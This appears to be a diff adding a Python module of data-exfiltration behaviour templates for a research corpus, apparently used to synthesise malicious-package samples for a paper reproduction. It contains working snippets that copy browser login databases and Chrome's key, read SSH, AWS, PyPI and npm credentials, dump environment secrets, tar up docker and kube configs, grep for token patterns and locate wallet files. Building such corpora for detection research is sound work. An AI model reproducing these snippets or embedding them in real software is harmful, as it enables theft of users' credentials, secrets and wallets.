@@ -1,0 +1,232 @@
+"""Data-exfiltration behaviours (paper Table XII category 6).
+
+Subcategories: Credential Theft, Environment Data Stealing, Configuration
+File Extraction, Sensitive Data Harvesting.
+"""
+
+from __future__ import annotations
+
+from repro.corpus.behaviors.base import Behavior
+
+BEHAVIORS: list[Behavior] = [
+    # -- Credential Theft -------------------------------------------------------
+    Behavior(
+        key="browser_credential_theft",
+        subcategory="Credential Theft",
+        description="Copy browser credential databases for exfiltration.",
+        variants=[
+            (
+                ["import os", "import shutil", "import sqlite3", "import tempfile"],
+                """
+                def {func}_logins():
+                    src = os.path.join(os.path.expanduser("~"), "{browser_path}")
+                    if not os.path.exists(src):
+                        return []
+                    copy = os.path.join(tempfile.gettempdir(), "ldb")
+                    shutil.copy2(src, copy)
+                    conn = sqlite3.connect(copy)
+                    rows = conn.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
+                    conn.close()
+                    return rows
+                """,
+                "{func}_logins()",
+                None,
+            ),
+            (
+                ["import os", "import json", "import base64"],
+                """
+                def {func}_localstate():
+                    state = os.path.join(os.path.expanduser("~"),
+                                         "AppData/Local/Google/Chrome/User Data/Local State")
+                    if not os.path.isfile(state):
+                        return None
+                    with open(state, "r", encoding="utf-8") as handle:
+                        payload = json.load(handle)
+                    key = payload.get("os_crypt", dict()).get("encrypted_key", "")
+                    return base64.b64decode(key)[5:]
+                """,
+                "{func}_localstate()",
+                None,
+            ),
+        ],
+    ),
+    Behavior(
+        key="cloud_token_theft",
+        subcategory="Credential Theft",
+        description="Read cloud / package-registry tokens from dotfiles.",
+        variants=[
+            (
+                ["import os"],
+                """
+                def {func}_tokens():
+                    stolen = []
+                    for rel in ("{sensitive_path}", "~/.pypirc", "~/.npmrc"):
+                        candidate = os.path.expanduser(rel)
+                        if os.path.isfile(candidate):
+                            with open(candidate, "r", errors="ignore") as handle:
+                                stolen.append(handle.read())
+                    return "\\n".join(stolen)
+                """,
+                "{func}_tokens()",
+                None,
+            ),
+            (
+                ["import os", "import glob"],
+                """
+                def {func}_keys():
+                    home = os.path.expanduser("~")
+                    found = []
+                    for pattern in (".ssh/id_rsa", ".ssh/*.pem", ".aws/credentials"):
+                        for path in glob.glob(os.path.join(home, pattern)):
+                            with open(path, "r", errors="ignore") as handle:
+                                found.append(handle.read())
+                    return found
+                """,
+                "{func}_keys()",
+                None,
+            ),
+        ],
+    ),
+    # -- Environment Data Stealing ---------------------------------------------
+    Behavior(
+        key="environ_dump",
+        subcategory="Environment Data Stealing",
+        description="Dump the process environment (CI secrets, API keys) to the attacker.",
+        variants=[
+            (
+                ["import os", "import json"],
+                """
+                def {func}_environ():
+                    secrets = dict()
+                    for key, value in os.environ.items():
+                        if any(tag in key.upper() for tag in ("TOKEN", "SECRET", "KEY", "PASS")):
+                            secrets[key] = value
+                    return json.dumps(secrets)
+                """,
+                "{func}_environ()",
+                None,
+            ),
+            (
+                ["import os", "import platform", "import getpass"],
+                """
+                def {func}_hostinfo():
+                    report = []
+                    report.append("user=" + getpass.getuser())
+                    report.append("host=" + platform.node())
+                    report.append("cwd=" + os.getcwd())
+                    report.append("env=" + repr(dict(os.environ)))
+                    return ";".join(report)
+                """,
+                "{func}_hostinfo()",
+                None,
+            ),
+            (
+                ["import os", "import socket"],
+                """
+                def {func}_fingerprint():
+                    lines = [socket.gethostname(), os.name]
+                    lines.extend(k + "=" + v for k, v in os.environ.items())
+                    return "\\n".join(lines)
+                """,
+                "{func}_fingerprint()",
+                None,
+            ),
+        ],
+    ),
+    # -- Configuration File Extraction ------------------------------------------
+    Behavior(
+        key="config_file_extraction",
+        subcategory="Configuration File Extraction",
+        description="Collect application configuration files from the user's home directory.",
+        variants=[
+            (
+                ["import os", "import tarfile", "import tempfile"],
+                """
+                def {func}_configs():
+                    home = os.path.expanduser("~")
+                    bundle = os.path.join(tempfile.gettempdir(), "cfg.tar")
+                    with tarfile.open(bundle, "w") as archive:
+                        for rel in (".gitconfig", ".netrc", ".docker/config.json", ".kube/config"):
+                            path = os.path.join(home, rel)
+                            if os.path.exists(path):
+                                archive.add(path, arcname=rel)
+                    return bundle
+                """,
+                "{func}_configs()",
+                None,
+            ),
+            (
+                ["import os", "import configparser"],
+                """
+                def {func}_read_pypirc():
+                    parser = configparser.ConfigParser()
+                    parser.read(os.path.expanduser("~/.pypirc"))
+                    entries = []
+                    for section in parser.sections():
+                        entries.append(section + ":" + parser.get(section, "password", fallback=""))
+                    return entries
+                """,
+                "{func}_read_pypirc()",
+                None,
+            ),
+        ],
+    ),
+    # -- Sensitive Data Harvesting -----------------------------------------------
+    Behavior(
+        key="sensitive_data_harvest",
+        subcategory="Sensitive Data Harvesting",
+        description="Walk the filesystem collecting files that look like secrets or wallets.",
+        variants=[
+            (
+                ["import os"],
+                """
+                def {func}_harvest(root="."):
+                    interesting = []
+                    for dirpath, _dirnames, filenames in os.walk(os.path.expanduser(root)):
+                        for filename in filenames:
+                            lowered = filename.lower()
+                            if lowered.endswith((".env", ".pem", ".key")) or "wallet" in lowered:
+                                interesting.append(os.path.join(dirpath, filename))
+                        if len(interesting) > 200:
+                            break
+                    return interesting
+                """,
+                "{func}_harvest()",
+                None,
+            ),
+            (
+                ["import os", "import re"],
+                """
+                def {func}_grep_secrets(path):
+                    token_re = re.compile(r"(AKIA[0-9A-Z]..............|ghp_[0-9A-Za-z]+|xox[baprs]-[0-9A-Za-z-]+)")
+                    hits = []
+                    for dirpath, _dirs, files in os.walk(path):
+                        for name in files:
+                            if not name.endswith((".py", ".env", ".cfg", ".json", ".yml")):
+                                continue
+                            try:
+                                with open(os.path.join(dirpath, name), "r", errors="ignore") as handle:
+                                    hits.extend(token_re.findall(handle.read()))
+                            except OSError:
+                                continue
+                    return hits
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import os", "import glob"],
+                """
+                def {func}_wallets():
+                    home = os.path.expanduser("~")
+                    targets = []
+                    for pattern in ("*.wallet", "wallet.dat", "*.kdbx", "Exodus/exodus.wallet"):
+                        targets.extend(glob.glob(os.path.join(home, "**", pattern), recursive=True))
+                    return targets
+                """,
+                "{func}_wallets()",
+                None,
+            ),
+        ],
+    ),
+]
